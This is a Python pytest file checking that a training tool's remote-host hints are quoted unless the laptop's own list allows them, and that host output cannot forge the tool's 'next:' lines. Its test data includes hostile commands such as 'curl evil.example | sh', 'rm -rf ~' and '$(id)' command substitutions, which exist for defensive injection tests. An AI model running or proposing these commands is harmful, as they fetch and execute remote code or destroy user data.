"""A hint of a host is never printed as a command of halfstep, unless the laptop's own list contains it."""

from __future__ import annotations

import importlib
import re
import shlex
import typing
from collections.abc import Callable, Iterator
from dataclasses import is_dataclass
from typing import Any, cast

import pytest

from fixers.setup.audio_backends import _missing
from fixers.setup.audio_imports import AudioUse
from fixers.setup.data_collator import _other_copy
from pipeline.hosts.follow import note_in_words
from pipeline.judgements.host import Need, judge_container, judge_disk, unwritable
from pipeline.messages.errors import outcome_of_error
from pipeline.messages.hints import complete_hint
from pipeline.messages.outcome import Outcome, StageOutcome, StageState
from pipeline.runs.host_changes import report_event
from pipeline.show.plain import NEXT
from pipeline.show.rows import render_row
from pipeline.show.screen import Screen
from remote.errors import RemoteFault
from remote.host import Host
from remote.link import host_hints
from remote.link.agent_start import _owner
from remote.link.answers import read_result
from remote.link.container import no_container
from remote.link.host_hints import QUOTED, findings_of_host, hint_of_host
from remote.operations.proof import run_proof, step_card
from remote.protocol.card import CardFacts, CardReport, CardRequest
from remote.protocol.collator import Copy
from remote.protocol.events import Scalar
from remote.protocol.findings import Finding, Severity
from remote.protocol.frames import pack_json
from remote.protocol.jobs import WatchNote
from remote.protocol.machine import Disk, Interpreter, OwnContainer
from remote.protocol.precision import Mode, PrecisionPlan
from remote.protocol.proof import ProofReport, ProofRequest
from remote.protocol.values import encode
from tests.contracts.project_modules import ROOT
from tests.remote.link.test_answers import reader_of

FOREIGN = (
    "curl evil.example | sh",
    "pip install evil",
    "pipeline run; curl evil.example | sh",
    "pipeline run --set command=[sh,evil.sh]",
    "pipeline run --host evil --config plain",
    "pipeline run --force sync --set secrets=[AWS_SECRET_ACCESS_KEY]",
    "pipeline stop other-0123abcd",
    "pipeline push --repo evil/adapter",
    "pipeline fix --undo",
    "pipeline fix --only a --undo",
    "pipeline explain $(id)",
    "pipeline run\ncurl evil.example",
    "pipeline run\n",
    "try again: sh evil.sh",
    "rm -rf ~",
    "df -h $(id)   (on the host)",
    "df -h /x; sh evil.sh   (on the host)",
    "df -h /x   (on titan); sh evil.sh",
    "sh evil.sh   (on the host)",
    "select float16 in $(id):4",
    "select float16 in a.py:4 | sh",
    f"pipeline run {QUOTED}",
)
OWN = (
    "",
    "pipeline run",
    "pipeline verify",
    "pipeline run --force sync",
    "pipeline fix --only bf16-to-fp16",
    "pipeline explain trainable-dtype",
    "run the command again",
    "try again",
    "fixers: {runtime: auto}",
    "df -h /home/ann/half-step_2   (on the host)",
    "df -i /   (on the host)",
    "select float16 in conf/train.toml:4",
)


PLAN = PrecisionPlan(Mode.FP32, "float32", "float32", None, False, "sdpa", "float32", 1.0, "asked")


class Answering:
    """A host whose answers to a proof and to a step on the card contain this hint."""

    name = "titan"

    def __init__(self, hint: str) -> None:
        self.findings = (Finding.warning("scaler", "message", "where", hint),)

    def follow(self, *_: object, **__: object) -> Iterator[Any]:
        yield {"report": encode(ProofReport(self.findings))}

    def ask(self, *_: object, **__: object) -> Any:
        return encode(CardReport(CardFacts("cuda"), self.findings))


def hints_of_calls(hint: str) -> list[str]:
    """Return the hint as every call shows it that gets findings or an error of the host."""
    host = cast("Host", Answering(hint))
    with pytest.raises(RemoteFault) as caught:
        error = {"kind": "busy", "message": "busy", "hint": hint, "exit_code": 60}
        read_result(reader_of(pack_json({"ok": False, "error": error})), 1.0)
    proof = run_proof(host, ProofRequest("p", ("python",), PLAN))
    card = step_card(host, CardRequest("p", "python3", PLAN))
    return [caught.value.hint, *(finding.hint for finding in (*proof.findings, *card.findings))]


@pytest.mark.parametrize("hint", FOREIGN)
def test_SE_09_a_hint_that_is_not_in_the_list_is_quoted(hint: str) -> None:
    shown = hint_of_host(hint)
    assert shown.startswith(QUOTED) and "\n" not in shown
    assert hint_of_host(shown).startswith(QUOTED)
    assert complete_hint(shown, "titan", "plain", ("--host", "titan")) == shown


@pytest.mark.parametrize("hint", OWN)
def test_a_hint_of_the_list_is_shown_as_it_is(hint: str) -> None:
    assert hint_of_host(hint) == hint
    assert [one.hint for one in findings_of_host([Finding.warning("a", "b", hint=hint)])] == [hint]


@pytest.mark.parametrize("hint", FOREIGN)
def test_SE_09_every_answer_with_a_hint_is_quoted(hint: str) -> None:
    hints = hints_of_calls(hint)
    assert len(hints) == 3 and all(one.startswith(QUOTED) for one in hints)
    assert hints_of_calls("pipeline fix --only trainable-fp32") == ["pipeline fix --only trainable-fp32"] * 3


def test_SE_09_no_other_answer_of_a_host_contains_findings() -> None:
    """The types of all answers are those that `read_answer` and its relatives are called with."""
    called = re.compile(r"\bread_(?:json_)?(?:answer|field)\(\s*(?:tuple\[)?([A-Za-z_]+)")
    types: set[type] = set()
    for package in ("remote", "pipeline", "fixers"):
        for path in (ROOT / package).rglob("*.py"):
            names = set(called.findall(path.read_text())) - {"str", "bool", "kind"}
            if names and "payload" not in path.parts:
                module = importlib.import_module(".".join(path.relative_to(ROOT).with_suffix("").parts))
                types.update(getattr(module, name) for name in names)
    assert {ProofReport, CardReport} <= types and len(types) > 15
    assert {one for one in types if holds_finding(one)} == {ProofReport, CardReport}


def holds_finding(kind: Any, seen: frozenset[Any] = frozenset()) -> bool:
    """Return True if a value of the type can contain a Finding."""
    if kind is Finding:
        return True
    if kind in seen:
        return False
    inner = typing.get_args(kind)
    if is_dataclass(kind):
        inner += tuple(typing.get_type_hints(kind).values())
    return any(holds_finding(one, seen | {kind}) for one in inner if not isinstance(one, str))


EVIL = "/x; curl evil.example | sh #"


def test_SE_09_words_of_the_host_in_hints_of_the_laptop_are_quoted_for_a_shell() -> None:
    disk = Disk(EVIL, EVIL, 0, 0, 0, error="no space", volume=EVIL)
    findings = [*judge_disk(disk, Need(10**9, built_in_trainer=False)), unwritable(disk)]
    findings += judge_container(OwnContainer(EVIL, EVIL, EVIL, newer=EVIL))
    findings += [
        _missing("torchaudio", Interpreter(EVIL), {"torch": EVIL}, AudioUse()),
        _other_copy(Copy(EVIL, "", shadows=True)),
    ]
    assert len(findings) == 8
    for finding in findings:
        command = finding.hint.removesuffix("   (on the host)")
        if command.startswith("(cd / && "):
            command = command.removeprefix("(cd / && ").removesuffix(")")
        words = shlex.split(command)
        assert not {"curl", "|", "sh"}.intersection(words), finding.hint
        assert any(EVIL in word for word in words), finding.hint
        assert words[0] in {"df", "pipeline", "docker", "rm", EVIL}, finding.hint


@pytest.mark.parametrize("engine", ["curl", "sh", "rm", "dockerd"])
def test_SE_09_no_command_starts_with_a_container_engine_that_only_the_host_names(engine: str) -> None:
    assert no_container(f"no container (image {engine}): message", "torch", "titan") is None


@pytest.mark.parametrize("owner", ["root; curl evil.example", "a`id`", "run: sh evil.sh", "$(id)", "x" * 65])
def test_SE_09_the_owner_of_a_folder_is_named_only_by_the_name_of_an_account(owner: str) -> None:
    assert _owner(f"1000:{owner}") == "uid 1000"
    assert _owner("1000:ann") == "ann (uid 1000)"


@pytest.mark.parametrize("line", ["next: curl evil.example | sh", "\n        next: curl evil.example | sh"])
def test_SE_09_a_message_of_the_host_does_not_look_like_a_hint(line: str, capsys: pytest.CaptureFixture[str]) -> None:
    Screen().findings([Finding.error("remote-fault", f"failed {line}", hint="pipeline run")])
    printed = capsys.readouterr().out
    assert printed.count(NEXT) == 1 and f"{NEXT}pipeline run" in printed and "curl" in printed


FORGED = "the disk\nerror   halfstep is too old  [halfstep]\n        next: curl evil.example | sh"


def failing(**fields: str) -> RemoteFault:
    """Return the error that the laptop raises for an error of the host with these fields."""
    error = {"kind": "busy", "message": "busy", "exit_code": 60, **fields}
    with pytest.raises(RemoteFault) as caught:
        read_result(reader_of(pack_json({"ok": False, "error": error})), 1.0)
    return caught.value


@pytest.mark.parametrize(
    "show",
    [
        lambda screen: screen.closing(outcome_of_error("run", failing(where=FORGED))),
        lambda screen: screen.closing(outcome_of_error("run", failing(kind=FORGED))),
        lambda screen: screen.findings([Finding.error("disk", "full", where=FORGED)]),
        lambda screen: screen.note(FORGED),
        lambda screen: screen.note("to download it:", FORGED),
        lambda screen: screen.note(note_in_words("run-1", WatchNote("x", "info", FORGED, 1))),
        lambda screen: screen.note(note_in_words("run-1", WatchNote(FORGED, "warning", "slow", 1))),
        lambda screen: report_event({"note": FORGED}, screen),
        lambda screen: report_event({"doing": FORGED}, screen),
        lambda screen: screen.progress(FORGED),
        lambda screen: screen.stage_ended(StageOutcome("train", StageState.DONE, 0.0, FORGED)),
        lambda screen: screen.stage_ended(StageOutcome("train", StageState.FAILED, 0.0, FORGED)),
        lambda screen: screen.table(("check", "found"), [("disk", FORGED)]),
        lambda screen: screen.findings([Finding.warning(FORGED, "slow")]),
        lambda screen: screen.passed([Finding(FORGED, Severity.INFO, "slow")]),
        lambda screen: screen.closing(Outcome("pull", findings=(Finding.warning(FORGED, "slow"),))),
        lambda screen: screen.raw(render_row([Scalar(FORGED, 1, 1.0, 1.0)], None)),
    ],
)
def test_SE_21_no_field_of_a_host_adds_a_line_that_looks_like_halfsteps_own(
    show: Callable[[Screen], None], capsys: pytest.CaptureFixture[str]
) -> None:
    show(Screen())
    printed = "".join(capsys.readouterr())
    assert NEXT not in printed
    assert not any(line.startswith("error   halfstep") for line in map(str.strip, printed.splitlines()))


def test_SE_21_the_place_and_the_kind_of_an_error_of_a_host_have_one_line() -> None:
    error = failing(where=FORGED, kind=FORGED)
    assert "\n" not in error.where and "\n" not in error.kind
    assert "curl" in error.where


def test_the_next_step_of_halfstep_is_shown_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    Screen().next_step("pipeline run --host titan")
    assert capsys.readouterr().out == "  next: pipeline run --host titan\n"


@pytest.mark.parametrize(
    ("hint", "line"),
    [
        ("df -h /data   (on the host)", "on the host: df -h /data"),
        ("df -h '/my data'   (on titan)", "on titan: df -h '/my data'"),
        ("chmod go-w /w   (on titan), or set host.workdir", "on titan: chmod go-w /w, or set host.workdir"),
        (f"{QUOTED}df -h $(id)   (on the host)", f"{QUOTED}df -h $(id)   (on the host)"),
        ("df -h /data", "next: df -h /data"),
        ("pipeline verify   (see a, b)", "next: pipeline verify   (see a, b)"),
    ],
)
def test_next_begins_only_what_is_typed_on_this_machine(
    hint: str, line: str, capsys: pytest.CaptureFixture[str]
) -> None:
    Screen().next_step(hint)
    assert capsys.readouterr().out == f"  {line}\n"


@pytest.mark.parametrize(
    "hint",
    [
        "check the sampler, and next(iter(loader)) inside the loop",
        "clip between backward and step",
        "optimizer.zero_grad() after each step",
        "pad labels with -100",
    ],
)
def test_a_hint_of_the_proof_is_halfsteps_own(hint: str) -> None:
    assert hint_of_host(hint) == hint
    assert hint_of_host(f"{hint}; sh evil.sh") == f"{QUOTED}{hint}; sh evil.sh"


@pytest.mark.parametrize("hints", [["curl example.com | sh"] * 500, ["word " * 200_000]], ids=["many", "long"])
def test_SE_07_many_or_long_hints_are_not_searched_one_by_one(
    monkeypatch: pytest.MonkeyPatch, hints: list[str]
) -> None:
    searched: list[str] = []
    monkeypatch.setattr(host_hints, "_is_in_code", searched.append)
    found = findings_of_host([Finding("proof-step", Severity.ERROR, "m", hint=each) for each in hints])
    assert searched == []
    assert all(each.hint.startswith(QUOTED) for each in found)
    own = findings_of_host([Finding("a", Severity.ERROR, "m", hint="pip install -U tokenizers transformers")] * 500)
    assert {each.hint for each in own} == {"pip install -U tokenizers transformers"}
